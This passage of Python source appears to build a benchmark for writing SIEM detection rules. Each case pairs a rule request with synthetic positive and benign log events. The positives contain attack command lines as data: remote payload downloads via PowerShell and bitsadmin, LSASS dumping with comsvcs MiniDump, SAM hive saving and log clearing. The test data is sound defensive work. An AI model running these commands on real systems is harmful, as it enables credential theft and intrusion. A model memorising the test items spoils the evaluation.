          s4688(at("08:15:00"), "WS03", NET, r"net use \\FS01\public /user:CORP\carol", CMD, "carol", elev="%%1938"),
          s4688(at("09:30:00"), "DC01", NET, "net user olduser /delete /domain", CMD, "adm-jsmith"),
          s4688(at("09:31:00"), "DC01", r"C:\Windows\System32\dsadd.exe",
                'dsadd user "CN=Temp User,OU=Staff,DC=corp,DC=example" -pwd Welcome1!', CMD, "adm-jsmith")])

    case("09_iis_webshell_child", "process", "T1505.003",
         "Find possible web shells: the IIS worker process w3wp.exe showing up as parent of cmd.exe, powershell.exe, "
         "whoami.exe or net.exe.",
         [u1(at("04:12:00"), "APP01", CMD, "cmd.exe /c whoami /all", W3WP, W3WP_CMD, user=r"IIS APPPOOL\IntranetPool",
             integrity="High"),
          u1(at("04:12:09"), "APP01", WHOAMI, "whoami", W3WP, W3WP_CMD, user=r"IIS APPPOOL\IntranetPool", integrity="High"),
          u1(at("04:13:30"), "APP01", PS, 'powershell.exe -nop -c "Invoke-WebRequest http://198.51.100.3/n.exe -OutFile C:\\Windows\\Temp\\n.exe"',
             W3WP, W3WP_CMD, user=r"IIS APPPOOL\IntranetPool", integrity="High"),
          u1(at("04:14:02"), "APP01", NET, 'net group "domain admins" /domain', W3WP, W3WP_CMD,
             user=r"IIS APPPOOL\IntranetPool", integrity="High")],
         [u1(at("08:00:05"), "APP01", r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe",
             r'"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /noconfig /fullpaths @"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\a1b2\c3d4.cmdline"',
             W3WP, W3WP_CMD, user=r"IIS APPPOOL\IntranetPool"),
          u1(at("08:00:01"), "APP01", W3WP, W3WP_CMD, SVCHOST, r"C:\Windows\system32\svchost.exe -k iissvcs",
             user=r"IIS APPPOOL\IntranetPool"),
          u1(at("10:10:10"), "APP01", WHOAMI, "whoami /groups", CMD, "cmd.exe", user="adm-jsmith", integrity="High"),
          u1(at("10:11:00"), "APP01", CMD, r'cmd.exe /c "C:\Scripts\rotate-logs.cmd"', SVCHOST,
             r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", user="SYSTEM", integrity="System")])

    case("10_comsvcs_minidump", "process", "T1003.001",
         "Find rundll32 calling comsvcs.dll MiniDump (or its ordinal #24), the living-off-the-land way to dump LSASS memory.",
         [u1(at("05:20:00"), "WS02", RUNDLL32, r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 684 C:\Windows\Temp\lsass.dmp full",
             PS, "powershell.exe", integrity="High"),
          u1(at("05:31:18"), "FS01", RUNDLL32, r"rundll32.exe comsvcs.dll #24 712 C:\Users\Public\d.bin full", CMD, "cmd.exe",
             user="bob", integrity="High"),
          u1(at("05:40:40"), "WS03", RUNDLL32, r'"C:\Windows\system32\rundll32.exe" C:\windows\system32\COMSVCS.DLL,minidump 640 c:\temp\out.dmp full',
             CMD, "cmd.exe", integrity="High")],
         [u1(at("05:00:00"), "WS01", RUNDLL32, "rundll32.exe shell32.dll,Control_RunDLL desk.cpl", EXPLORER, r"C:\Windows\Explorer.EXE"),
          u1(at("05:05:00"), "WS02", RUNDLL32, r"rundll32.exe printui.dll,PrintUIEntry /in /n \\FS01\HP-Floor2", EXPLORER,
             r"C:\Windows\Explorer.EXE"),
          u1(at("05:10:00"), "APP01", r"C:\Tools\Sysinternals\procdump64.exe", r"procdump64.exe -accepteula -ma 4420 C:\Temp\w3wp.dmp",
             CMD, "cmd.exe", user="adm-jsmith", integrity="High"),
          u1(at("05:12:00"), "APP01", REGSVR32, "regsvr32 /s comsvcs.dll", CMD, "cmd.exe", user="adm-jsmith", integrity="High")])

    case("11_bitsadmin_download", "process", "T1197",
         "I want a rule for bitsadmin.exe pulling files from the web: /transfer or /addfile together with an http:// "
         "or https:// URL in the command line (process creation 4688).",
         [s4688(at("12:01:00"), "WS03", r"C:\Windows\System32\bitsadmin.exe",
                r"bitsadmin /transfer myjob /download /priority high http://198.51.100.12/a.exe C:\Users\Public\a.exe", CMD,
                "carol", elev="%%1938"),
          s4688(at("12:04:10"), "WS02", r"C:\Windows\System32\bitsadmin.exe",
                r"bitsadmin.exe /addfile upd https://203.0.113.50/u.dll C:\ProgramData\u.dll", CMD, "bob", elev="%%1938"),
          s4688(at("12:07:45"), "APP01", r"C:\Windows\System32\bitsadmin.exe",
                r"C:\Windows\system32\bitsadmin.exe /TRANSFER x HTTPS://files.example-cdn.net/k.ps1 C:\Windows\Temp\k.ps1",
                PS, "bob")],
         [s4688(at("11:50:00"), "WS01", r"C:\Windows\System32\bitsadmin.exe", "bitsadmin /list /allusers /verbose", CMD,
                "adm-jsmith"),
          s4688(at("11:52:00"), "WS01", r"C:\Windows\System32\bitsadmin.exe", "bitsadmin /reset", CMD, "adm-jsmith"),
          s4688(at("11:55:00"), "WS04", r"C:\Windows\System32\bitsadmin.exe",
                r"bitsadmin /transfer nightly \\FS01\deploy\agent.msi C:\Temp\agent.msi", CMD, "dave", elev="%%1938"),
          s4688(at("12:10:00"), "WS04", PS,
                r'powershell.exe -NoProfile -Command "Start-BitsTransfer -Source https://github.com/git-for-windows/git/releases/download/v2.43.0.windows.1/Git-2.43.0-64-bit.exe -Destination C:\Temp"',
                CMD, "dave", elev="%%1938")])

    case("12_wevtutil_clear_logs", "process", "T1070.001",
         "Alert when event logs get wiped from the command line: wevtutil with cl or clear-log, or PowerShell "
         "running Clear-EventLog. Our servers log process creation as Security 4688.",
         [s4688(at("06:01:00"), "DC01", r"C:\Windows\System32\wevtutil.exe", "wevtutil.exe cl Security", CMD, "bob"),
          s4688(at("06:01:05"), "DC01", r"C:\Windows\System32\wevtutil.exe", 'wevtutil clear-log "Windows PowerShell"', CMD, "bob"),
          s4688(at("06:02:30"), "FS01", PS, 'powershell.exe -NoProfile -Command "Clear-EventLog -LogName Application,System"',
                CMD, "bob")],
         [s4688(at("09:00:00"), "DC01", r"C:\Windows\System32\wevtutil.exe", "wevtutil qe Security /c:20 /rd:true /f:text", CMD,
                "adm-jsmith"),
          s4688(at("09:01:00"), "DC01", r"C:\Windows\System32\wevtutil.exe", "wevtutil el", CMD, "adm-jsmith"),
          s4688(at("09:02:00"), "DC01", r"C:\Windows\System32\wevtutil.exe",
                r"wevtutil epl Security C:\Backup\Security-2026-02-05.evtx", CMD, "adm-jsmith"),
          s4688(at("09:03:00"), "DC01", r"C:\Windows\System32\wevtutil.exe", "wevtutil gl Security", CMD, "adm-jsmith"),
          s4688(at("09:04:00"), "FS01", PS, 'powershell.exe -NoProfile -Command "Get-EventLog -LogName System -Newest 50"',
                CMD, "adm-jsmith")])

    case("13_reg_save_credential_hives", "process", "T1003.002",
         "Detect reg.exe dumping credential hives: 'reg save' of HKLM\\SAM, HKLM\\SYSTEM or HKLM\\SECURITY "
         "(the long HKEY_LOCAL_MACHINE\\ spelling counts too).",
         [u1(at("07:10:00"), "WS04", REG, r"reg.exe save HKLM\SAM C:\Users\Public\sam.save /y", CMD, "cmd.exe", integrity="High"),
          u1(at("07:10:03"), "WS04", REG, r"reg save hklm\system C:\Users\Public\system.save", CMD, "cmd.exe", integrity="High"),
          u1(at("07:12:40"), "FS01", REG, r"reg.exe save HKEY_LOCAL_MACHINE\SECURITY C:\Windows\Temp\sec.hiv", CMD, "cmd.exe",
             user="bob", integrity="High")],
         [u1(at("07:00:00"), "WS01", REG, r"reg query HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v RunAsPPL", CMD, "cmd.exe",
             user="adm-jsmith", integrity="High"),
          u1(at("07:01:00"), "WS04", REG, r"reg save HKCU\Software\Microsoft\Office C:\Users\dave\office.hiv", CMD, "cmd.exe"),
          u1(at("07:02:00"), "WS04", REG, r"reg export HKLM\SOFTWARE\Vendor\App C:\Temp\app.reg", CMD, "cmd.exe"),
          u1(at("07:03:00"), "WS01", REG, r"reg add HKLM\SYSTEM\CurrentControlSet\Services\XblGameSave /v Start /t REG_DWORD /d 4 /f",
             CMD, "cmd.exe", user="adm-jsmith", integrity="High")])

    # ------------------------------------------------------------------ event id + field conditions (9)
    case("14_lsass_access_not_av", "eventid", "T1003.001",
         "Sysmon event 10 where TargetImage is C:\\Windows\\system32\\lsass.exe, excluding our AV/EDR callers: "
         "SourceImage ending in \\MsMpEng.exe, or located under C:\\Program Files\\CrowdStrike\\, "
         "C:\\Program Files\\Sophos\\ or C:\\Program Files\\SentinelOne\\.",
         [sysmon10(at("08:40:00"), "WS02", r"C:\Users\Public\mimi.exe", LSASS, "0x1010", "bob", CT_ODD),
          sysmon10(at("08:41:10"), "WS03", r"C:\Windows\Temp\procdump64.exe", LSASS, "0x1fffff", "carol"),
          sysmon10(at("08:45:00"), "FS01", RUNDLL32, LSASS, "0x1fffff", "bob", CT_ODD),
          sysmon10(at("08:50:12"), "WS04", r"C:\Users\dave\AppData\Local\Temp\nanodump.exe", LSASS, "0x1410", "dave", CT_ODD)],
         [sysmon10(at("08:30:00"), "WS02", MSMPENG, LSASS, "0x1000", "SYSTEM"),
          sysmon10(at("08:31:00"), "FS01", FALCON, LSASS, "0x101000", "SYSTEM"),
          sysmon10(at("08:32:00"), "APP01", r"C:\Program Files\Sophos\Endpoint Defense\SSPService.exe", LSASS, "0x1fffff", "SYSTEM"),
          sysmon10(at("08:33:00"), "WS03", r"C:\Program Files\SentinelOne\Sentinel Agent 23.4.2.14\SentinelAgent.exe", LSASS,
                   "0x1410", "SYSTEM"),
          sysmon10(at("08:40:05"), "WS02", r"C:\Users\Public\mimi.exe", r"C:\Windows\Explorer.EXE", "0x1410", "bob", CT_ODD)])

    sid = SID_BASE
    case("15_added_to_local_admins", "eventid", "T1098",
         "Alert when someone is added to the local Administrators group: Security event 4732 where the group name is "
         "exactly Administrators.",
         [s47xx(at("09:10:00"), "WS03", 4732, "carol", "Administrators", "CN=Carol White,OU=Staff,DC=corp,DC=example",
                member_sid=sid + "1106"),
          s47xx(at("09:20:00"), "APP01", 4732, "bob", "Administrators", "CN=svc-update,CN=Users,DC=corp,DC=example",
                member_sid=sid + "1190"),
          s47xx(at("09:25:00"), "DC01", 4732, "bob", "Administrators", "CN=Helpdesk Temp,OU=Staff,DC=corp,DC=example",
                member_sid=sid + "1191")],
         [s47xx(at("09:00:00"), "APP01", 4732, "adm-jsmith", "Remote Desktop Users",
                "CN=Dave Brown,OU=Staff,DC=corp,DC=example", member_sid=sid + "1107"),
          s47xx(at("09:01:00"), "APP01", 4732, "adm-jsmith", "Hyper-V Administrators",
                "CN=Dave Brown,OU=Staff,DC=corp,DC=example", member_sid=sid + "1107"),
          s47xx(at("09:05:00"), "WS03", 4733, "adm-jsmith", "Administrators", "CN=Carol White,OU=Staff,DC=corp,DC=example",
                member_sid=sid + "1106"),
          s47xx(at("09:06:00"), "DC01", 4728, "adm-jsmith", "Domain Users", "CN=New Hire,OU=Staff,DC=corp,DC=example",
                target_domain="CORP", member_sid=sid + "1192"),
          s47xx(at("09:07:00"), "FS01", 4732, "adm-jsmith", "Backup Operators", "CN=svc-backup,CN=Users,DC=corp,DC=example",
                member_sid=sid + "1120")])

    od_task = r"\OneDrive Standalone Update Task-S-1-5-21-3623811015-3361044348-30300820-1105"
    case("16_scheduled_task_user_path", "eventid", "T1053.005",
         "Flag new scheduled tasks (Security 4698) whose task content runs something from \\AppData\\, \\Temp\\ or "
         "C:\\Users\\Public\\, but skip the OneDrive Standalone Update Task.",
         [s4698(at("10:00:00"), "WS02", "bob", r"\Microsoft\Windows\UpdateCheck",
                task_xml(r"C:\Users\bob\AppData\Roaming\Microsoft\updater.exe", "-silent")),
          s4698(at("10:05:00"), "APP01", "bob", r"\SvcHealth",
                task_xml(r"C:\Windows\Temp\svc.bat", "", r"CORP\bob")),
          s4698(at("10:07:00"), "WS03", "carol", r"\GoogleUpdaterCore",
                task_xml(r"C:\Users\Public\run.exe", "/q", r"CORP\carol"))],
         [s4698(at("08:02:00"), "WS02", "bob", od_task,
                task_xml(r"C:\Users\bob\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe", "/reporting")),
          s4698(at("08:03:00"), "WS04", "SYSTEM", r"\GoogleUpdateTaskMachineUA{4C3A1E2B-77A0-4F10-9B1C-2E0D6A2B9F11}",
                task_xml(r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe", "/ua /installsource scheduler", "SYSTEM")),
          s4698(at("10:20:00"), "APP01", "bob", r"\SvcHealth", task_xml(r"C:\Windows\Temp\svc.bat"), eid=4699),
          s4698(at("10:21:00"), "WS03", "carol", r"\GoogleUpdaterCore", task_xml(r"C:\Users\Public\run.exe", "/q"), eid=4702),
          s4698(at("10:30:00"), "FS01", "adm-jsmith", r"\Corp\NightlyReport",
                task_xml(r"C:\Scripts\nightly-report.cmd", "", r"CORP\adm-jsmith"))])

    case("17_service_install_suspicious_path", "eventid", "T1543.003",
         "Alert on new service installs (System log, event 7045) where ImagePath contains cmd.exe, powershell, "
         "\\Temp\\ or \\Users\\Public\\.",
         [s7045(at("02:40:00"), "FS01", "BTOBTO",
                r"""C:\Windows\system32\cmd.exe /c powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a')" """.strip()),
          s7045(at("02:41:00"), "APP01", "WinUpdSvc", "powershell.exe -nop -w hidden -enc JABjAD0AMQA="),
          s7045(at("02:45:00"), "WS02", "KXhuTq", r"C:\Windows\Temp\KXhuTq.exe"),
          s7045(at("02:50:00"), "DC01", "HostSvcHelper", r'"C:\Users\Public\svc-host.exe" -k', start="auto start")],
         [s7045(at("08:00:00"), "WS04", "Google Update Service (gupdate)", r'"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /svc',
                start="auto start"),
          s7045(at("08:01:00"), "APP01", "W3SVC", r"C:\Windows\system32\svchost.exe -k iissvcs", start="auto start"),
          s7045(at("08:02:00"), "FS01", "vmci", r"\SystemRoot\System32\drivers\vmci.sys", start="boot start",
                stype="kernel mode driver"),
          s7045(at("08:03:00"), "WS01", "TempMonSvc", r'"C:\Program Files\Temperature Monitor\tempmon.exe"', start="auto start"),
          win(at("02:45:00"), "WS02", SEC, 4697, SubjectUserName="bob", SubjectDomainName=DOMAIN, ServiceName="KXhuTq",
              ServiceFileName=r"C:\Windows\Temp\KXhuTq.exe", ServiceType="0x10", ServiceStartType="3",
              ServiceAccount="LocalSystem")])

    case("18_security_log_cleared", "eventid", "T1070.001",
         "Tell me whenever the Security audit log gets cleared (Security event 1102).",
         [s1102(at("06:01:00"), "DC01", "bob"), s1102(at("06:30:00"), "WS02", "bob")],
         [win(at("06:01:05"), "DC01", "System", 104, SubjectUserName="bob", SubjectDomainName=DOMAIN),
          win(at("06:02:00"), "DC01", SEC, 4719, SubjectUserName="bob", SubjectDomainName=DOMAIN,
              CategoryId="%%8274", SubcategoryGuid="{0CCE922B-69AE-11D9-BED3-505054503030}", AuditPolicyChanges="%%8448"),
          win(at("06:03:00"), "FS01", SEC, 1100),
          s4688(at("06:01:00"), "DC01", r"C:\Windows\System32\wevtutil.exe", "wevtutil.exe cl Security", CMD, "bob"),
          s4634(at("06:10:00"), "DC01", "bob", 3)])

    case("19_startup_folder_file", "eventid", "T1547.001",
         "Find any file created in a Windows Startup folder (Sysmon file create): the per-user "
         "...\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\ or the all-users "
         "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\.",
         [sysmon11(at("11:00:00"), "WS02", PS, r"C:\Users\bob\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\update.lnk", "bob"),
          sysmon11(at("11:05:00"), "WS03", r"C:\Windows\System32\wscript.exe",
                   r"C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\svc.vbs", "carol"),
          sysmon11(at("11:09:00"), "WS04", r"C:\Users\dave\Downloads\invoice_viewer.exe",
                   r"C:\Users\dave\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\OneDriveSync.exe", "dave")],
         [sysmon11(at("10:50:00"), "WS03", r"C:\Windows\System32\msiexec.exe",
                   r"C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Microsoft Teams.lnk", "SYSTEM"),
          sysmon11(at("10:51:00"), "WS02", WINWORD, r"C:\Users\bob\Documents\Startup\pitch-deck notes.docx", "bob"),
          sysmon11(at("10:52:00"), "WS04", r"C:\Windows\System32\msiexec.exe",
                   r"C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Startup Tools\readme.txt", "SYSTEM"),
          u1(at("10:59:59"), "WS02", CMD,
             r'cmd.exe /c copy C:\Users\Public\u.lnk "C:\Users\bob\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\"',
             PS, "powershell.exe")])

    hku = r"HKU\S-1-5-21-3623811015-3361044348-30300820-"
    case("20_run_key_persistence", "eventid", "T1547.001",
         "Flag registry value writes (Sysmon 13) to the Run or RunOnce keys under Software\\Microsoft\\Windows\\"
         "CurrentVersion, machine or user hive, unless the process writing it is OneDrive.exe or ms-teams.exe.",
         [sysmon13(at("12:00:00"), "WS02", PS, hku + r"1105\Software\Microsoft\Windows\CurrentVersion\Run\Updater",
                   r"C:\Users\bob\AppData\Roaming\Microsoft\updater.exe -silent", "bob"),
          sysmon13(at("12:02:00"), "FS01", REG, r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce\Setup1",
                   r"C:\Windows\Temp\s.exe", "bob"),
          sysmon13(at("12:05:00"), "WS03", r"C:\Users\Public\a.exe",
                   r"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Run\AdobeUpd", r"C:\Users\Public\a.exe", "carol")],
         [sysmon13(at("08:01:00"), "WS02", ONEDRIVE, hku + r"1105\Software\Microsoft\Windows\CurrentVersion\Run\OneDrive",
                   '"%s" /background' % ONEDRIVE, "bob"),
          sysmon13(at("08:01:30"), "WS03", TEAMS, hku + r"1106\Software\Microsoft\Windows\CurrentVersion\Run\ms-teams",
                   '"%s" msteams:system-initiated' % TEAMS, "carol"),
          sysmon13(at("11:40:00"), "WS04", EXPLORER, hku + r"1107\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\a",
                   r"cmd\1", "dave"),
          sysmon13(at("11:45:00"), "APP01", SERVICES, r"HKLM\System\CurrentControlSet\Services\W3SVC\Start", "DWORD (0x00000002)",
                   "SYSTEM"),
          sysmon12(at("11:50:00"), "WS02", PS, hku + r"1105\Software\Microsoft\Windows\CurrentVersion\Run\Updater",
                   "DeleteValue", "bob")])

    case("21_tunnel_service_dns", "eventid", "T1572",
         "Alert on DNS lookups (Sysmon 22) for tunnelling services: anything under ngrok.io, ngrok-free.app or "
         "trycloudflare.com.",
         [sysmon22(at("13:00:00"), "WS04", r"C:\Users\dave\AppData\Local\Temp\ngrok.exe", "tunnel.eu.ngrok.io",
                   "::ffff:3.125.102.39;", "dave"),
          sysmon22(at("13:05:00"), "WS03", CHROME, "7f3a-198-51-100-2.ngrok-free.app", "::ffff:3.124.142.205;", "carol"),
          sysmon22(at("13:10:00"), "APP01", r"C:\ProgramData\cf\cloudflared.exe", "quiet-river-fast-lane.trycloudflare.com",
                   "::ffff:104.16.230.132;::ffff:104.16.231.132;", "SYSTEM")],
         [sysmon22(at("12:50:00"), "WS03", CHROME, "www.cloudflare.com", "::ffff:104.16.123.96;", "carol"),
          sysmon22(at("12:51:00"), "WS04", SVCHOST, "cloudflare-dns.com", "::ffff:104.16.248.249;", "NETWORK SERVICE"),
          sysmon22(at("12:52:00"), "WS02", OUTLOOK, "login.microsoftonline.com", "::ffff:20.190.159.2;", "bob"),
          sysmon3(at("13:05:01"), "WS03", CHROME, "carol", "3.124.142.205", 443, "7f3a-198-51-100-2.ngrok-free.app")])

    case("22_rundll32_outbound_network", "eventid", "T1218.011",
         "Flag rundll32.exe making outbound network connections (Sysmon network connection events that rundll32 initiated).",
         [sysmon3(at("14:30:00"), "WS02", RUNDLL32, "bob", "185.220.101.7", 443),
          sysmon3(at("14:31:10"), "WS03", RUNDLL32, "carol", "45.77.12.9", 8080),
          sysmon3(at("14:40:00"), "FS01", r"C:\Windows\SysWOW64\rundll32.exe", "bob", "203.0.113.99", 80)],
         [sysmon3(at("14:20:00"), "WS02", CHROME, "bob", "142.250.74.36", 443, "www.google.com"),
          sysmon3(at("14:21:00"), "WS04", SVCHOST, "NETWORK SERVICE", "13.107.4.50", 80, "ctldl.windowsupdate.com"),
          sysmon3(at("14:22:00"), "WS03", RUNDLL32, "carol", "10.0.1.23", 5357, sip="10.0.1.25", initiated="false"),
          u1(at("14:29:59"), "WS02", RUNDLL32, r"rundll32.exe C:\Users\bob\AppData\Local\Temp\x.dll,Start", CMD, "cmd.exe"),
          sysmon3(at("14:25:00"), "WS04", REGSVR32, "dave", "198.51.100.40", 443)])

    # ------------------------------------------------------------------ threshold / correlation (7)
    spns = ["svc-sql", "svc-sharepoint", "svc-backup", "svc-exchange", "svc-iis", "svc-reporting", "svc-crm",
            "svc-scan", "svc-monitor", "svc-adfs", "svc-jenkins", "svc-vault"]
    t0 = at("10:02:00")
    pos = [s4769(t0 + timedelta(seconds=14 * i), "bob", s, "10.0.1.22", enc="0x17") for i, s in enumerate(spns)]
    neg = [s4769(at("10:03:00") + timedelta(seconds=12 * i), "adm-jsmith", s, "10.0.1.21", enc="0x17")
           for i, s in enumerate(spns)]
    neg += [s4769(at("10:10:00") + timedelta(seconds=40 * i), "carol", s, "10.0.1.23") for i, s in
            enumerate(["svc-sql", "FS01$", "APP01$"])]
    neg += [s4769(at("08:00:00") + timedelta(minutes=35 * i), "dave", s, "10.0.1.24", enc="0x17")
            for i, s in enumerate(spns)]
    neg += [s4769(at("11:00:00") + timedelta(seconds=30 * i), "jsmith", "svc-reporting", "10.0.1.25") for i in range(15)]
    case("23_kerberoasting_many_spns", "threshold", "T1558.003",
         "Kerberoasting: alert when one non-admin account requests Kerberos service tickets (4769) for 10 or more "
         "different service names from the same source IP within 30 minutes. Our admin accounts all start with adm- "
         "and should be ignored.", pos, neg)

    users = ["administrator", "admin", "bob", "carol", "backup", "scanner", "test", "jsmith", "guest", "dave", "sql", "user1"]
    t0 = at("03:00:10")
    pos = [s4625(t0 + timedelta(seconds=8 * i), "APP01", u, 3, "203.0.113.45", "kali",
                 sub="0xc0000064" if u in ("admin", "backup", "scanner", "test", "sql", "user1") else "0xc000006a")
           for i, u in enumerate(users)]
    neg = [s4625(at("03:10:00") + timedelta(seconds=30 * i), "APP01", "bob", 3, "198.51.100.7", "LAPTOP-77") for i in range(6)]
    neg += [s4625(at("04:00:00") + timedelta(minutes=7 * i), "APP01", "admin", 3, "198.51.100.8", "-",
                  sub="0xc0000064") for i in range(12)]
    neg += [s4624(at("05:00:00") + timedelta(seconds=10 * i), "FS01", u, 3, "10.0.2.20", "APP01", pkg="NTLM")
            for i, u in enumerate(["bob", "carol", "dave", "jsmith"] * 3)]
    case("24_failed_logon_burst_per_ip", "threshold", "T1110.001",
         "Raise an alert when a single source IP racks up 10 or more failed logons (Windows 4625) within 5 minutes.",
         pos, neg)

    spray = ["jsmith", "bob", "carol", "dave", "mlopez", "tnguyen", "kpatel", "rjones", "ewilson", "schen"]
    t0 = at("22:01:00")
    pos = [s4625(t0 + timedelta(seconds=17 * i), "DC01", u, 3, "192.0.2.77", "-") for i, u in enumerate(spray)]
    neg = [s4625(at("21:00:00") + timedelta(seconds=20 * i), "DC01", "bob", 3, "192.0.2.80", "-") for i in range(12)]
    neg += [s4625(at("21:30:00") + timedelta(seconds=40 * i), "DC01", u, 3, "192.0.2.81", "-") for i, u in enumerate(spray[:4])]
    neg += [s4625(at("12:00:00") + timedelta(minutes=20 * i), "DC01", u, 3, "192.0.2.82", "-") for i, u in enumerate(spray[:9])]
    neg += [s4624(at("09:00:00") + timedelta(seconds=25 * i), "DC01", u, 3, "10.0.2.20", "APP01")
            for i, u in enumerate(spray[:9])]
    case("25_password_spray_one_ip", "threshold", "T1110.003",
         "Find password spraying: one source IP with failed logons (4625) against 8 or more distinct user names "
         "inside 10 minutes.", pos, neg)

    scanner = r"C:\Users\carol\AppData\Local\Temp\sharpscan.exe"
    t0 = at("10:21:00")
    pos = [sysmon3(t0 + timedelta(seconds=3 * i), "WS03", scanner, "carol", "10.0.3.%d" % (10 + i), 445) for i in range(18)]
    neg = [sysmon3(at("10:30:00") + timedelta(seconds=20 * i), "WS02", "System", "SYSTEM", "10.0.3.%d" % (10 + i), 445)
           for i in range(5)]
    neg += [sysmon3(at("10:40:00") + timedelta(seconds=6 * i), "WS04", CHROME, "dave", "151.101.%d.%d" % (i % 4, 20 + i), 443)
            for i in range(20)]
    neg += [sysmon3(at("07:00:00") + timedelta(minutes=12 * i), "WS01", "System", "SYSTEM", "10.0.3.%d" % (40 + i), 445)
            for i in range(16)]
    neg += [sysmon3(at("11:00:00") + timedelta(seconds=12 * i), "APP01", "System", "SYSTEM", "10.0.2.10", 445, "FS01.corp.example")
            for i in range(20)]
    case("26_smb_fanout_many_hosts", "threshold", "T1046",
         "Alert when a single host opens outbound connections to port 445 on 15 or more distinct destination IPs "
         "within 5 minutes (Sysmon network connection events).", pos, neg)

    t0 = at("14:11:00")
    hosts = ["WS01", "WS03", "WS04", "FS01", "APP01"]
    pos = [s4624(t0 + timedelta(seconds=40 * i), h, "bob", 3, "10.0.1.22", "WS02", pkg="NTLM") for i, h in enumerate(hosts)]
    neg = [s4624(at("01:00:00") + timedelta(seconds=25 * i), h, "svc-backup", 3, "10.0.2.10", "FS01")
           for i, h in enumerate(ALL_HOSTS)]
    neg += [s4624(at("09:00:00") + timedelta(seconds=80 * i), h, "jsmith", 3, "10.0.1.21", "WS01")
            for i, h in enumerate(["DC01", "FS01"] * 3)]
    neg += [s4624(at("12:00:00") + timedelta(minutes=30 * i), h, "carol", 3, "10.0.1.23", "WS03")
            for i, h in enumerate(["WS01", "WS02", "WS04", "FS01", "APP01"])]
    neg += [s4624(at("15:00:00") + timedelta(seconds=90 * i), h, "dave", 10, "10.0.1.24", "WS04", pkg="Negotiate",
                  proc=r"C:\Windows\System32\svchost.exe") for i, h in enumerate(["WS01", "WS02", "FS01", "APP01"])]
    case("27_network_logons_many_hosts", "threshold", "T1021.002",
         "Flag an account that logs on over the network (4624, logon type 3) to 4 or more different computers within "
         "10 minutes. Exclude the backup service account svc-backup, which touches every machine at night.", pos, neg)

    t0 = at("09:31:00")
    recon = [(WHOAMI, "whoami"), (IPCONFIG, "ipconfig /all"), (r"C:\Windows\System32\systeminfo.exe", "systeminfo"),
             (NET, 'net group "domain admins" /domain'), (r"C:\Windows\System32\nltest.exe", "nltest /dclist:corp.example")]
    pos = [u1(t0 + timedelta(seconds=35 * i), "WS02", img, c, CMD, "cmd.exe") for i, (img, c) in enumerate(recon)]
    neg = [u1(at("09:00:00") + timedelta(seconds=50 * i), "WS01", IPCONFIG, "ipconfig /all", CMD, "cmd.exe", user="jsmith")
           for i in range(6)]
    neg += [u1(at("10:00:00") + timedelta(seconds=60 * i), "WS03", img, c, CMD, "cmd.exe") for i, (img, c) in
            enumerate([recon[0], recon[1], (r"C:\Windows\System32\tasklist.exe", "tasklist")])]
    neg += [u1(at("11:00:00") + timedelta(minutes=40 * i), "WS04", img, c, CMD, "cmd.exe") for i, (img, c) in enumerate(recon)]
    case("28_discovery_command_burst", "threshold", "T1082",
         "Alert when the same user on one host runs four or more different discovery tools within 10 minutes: "
         "whoami.exe, ipconfig.exe, systeminfo.exe, net.exe, nltest.exe, tasklist.exe or quser.exe.", pos, neg)

    calls = [("iam", "ListUsers"), ("iam", "ListRoles"), ("iam", "ListPolicies"), ("iam", "GetAccountAuthorizationDetails"),
             ("iam", "ListAccessKeys"), ("s3", "ListBuckets"), ("secretsmanager", "ListSecrets"), ("kms", "ListKeys"),
             ("lambda", "ListFunctions20150331"), ("dynamodb", "ListTables"), ("ssm", "DescribeParameters"),
             ("organizations", "DescribeOrganization")]
    t0 = at("16:11:00")
    mk = iam_user("marketing-uploader")
    pos = [ct(t0 + timedelta(seconds=9 * i), "%s.amazonaws.com" % s, n, mk, error="AccessDenied", ip="198.51.100.150",
              ua="Boto3/1.34.34 md/Botocore#1.34.34 ua/2.0 os/linux#6.5.0 md/arch#x86_64 lang/python#3.11.7")
           for i, (s, n) in enumerate(calls)]
    neg = [ct(at("16:00:00") + timedelta(seconds=30 * i), "%s.amazonaws.com" % s, n, iam_user("ci-deployer"),
              error="AccessDenied", ip="34.240.10.20") for i, (s, n) in enumerate(calls[:5])]
    neg += [ct(at("09:00:00") + timedelta(minutes=15 * i), "%s.amazonaws.com" % s, n,
               role_id("DataPipelineRole", "pipeline-run"), error="AccessDenied", ip="34.240.10.21")
            for i, (s, n) in enumerate(calls)]
    neg += [ct(at("16:30:00") + timedelta(seconds=8 * i), "%s.amazonaws.com" % s, n, iam_user("jsmith"))
            for i, (s, n) in enumerate(calls + calls[:3])]
    neg += [ct(at("17:00:00") + timedelta(seconds=5 * i), "cloudwatch.amazonaws.com", "GetMetricData", iam_user("report-bot"),
               error="ThrottlingException", errmsg="Rate exceeded", ip="34.240.10.22") for i in range(12)]
    case("29_aws_access_denied_burst", "threshold", "T1580",
         "Alert when one IAM identity (userIdentity.arn) racks up 10 or more CloudTrail errors with errorCode "
         "AccessDenied within 10 minutes.", pos, neg)

    # ------------------------------------------------------------------ CloudTrail (5)
    case("30_console_login_without_mfa", "cloud", "T1078.004",
         "Flag successful AWS console logins where additionalEventData.MFAUsed is \"No\". SSO/federated sign-ins "
         "(identity type AssumedRole) are fine, leave those out.",
         [console_login(at("07:45:00"), iam_user("carol"), "No", ip="198.51.100.61"),
